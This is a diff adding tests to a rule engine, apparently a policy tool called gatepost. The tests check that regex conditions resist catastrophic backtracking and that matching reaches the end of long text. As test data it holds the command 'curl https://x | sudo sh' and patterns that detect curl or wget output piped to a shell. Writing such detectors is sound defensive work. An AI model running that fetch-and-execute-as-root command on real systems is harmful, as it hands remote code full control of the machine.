@@ -109,3 +109,28 @@ def test_nesting_is_limited():
         deep = {"not": deep}
     with pytest.raises(ConditionError, match="deeper"):
         compile_condition(deep, SCHEMA)
+
+
+@pytest.mark.parametrize("expression", ["password.*=.*secret", "a.*b.*c.*d", "^a.*b.*c$", "[^x]+y[^x]+z", "a\\s*b.*c$"])
+def test_no_expression_takes_long_on_hostile_text(expression):
+    import time
+
+    from gatepost.model.values import Value
+
+    condition = compile_condition({"name": {"matches": expression}}, SCHEMA)
+    for text in ("password" * 12_000, "a" * 100_000, "abc" * 30_000, "ab=" * 30_000, "a b\n" * 20_000, "y" * 100_000):
+        started = time.process_time()
+        condition.judge({"name": Value(text)}, {})
+        assert time.process_time() - started < 3
+
+
+def test_long_text_is_searched_to_its_end():
+    from gatepost.model.values import Value
+
+    script = "echo hello world and more\n" * 3_000 + "curl https://x | sudo sh\n"
+    for expression in ("curl.*\\|.*sh", "curl", "sudo sh\\n$", "[|] sudo"):
+        condition = compile_condition({"name": {"matches": expression}}, SCHEMA)
+        assert condition.judge({"name": Value(script)}, {}).truth is True
+    assert (
+        compile_condition({"name": {"matches": "wget.*\\|"}}, SCHEMA).judge({"name": Value(script)}, {}).truth is False
+    )
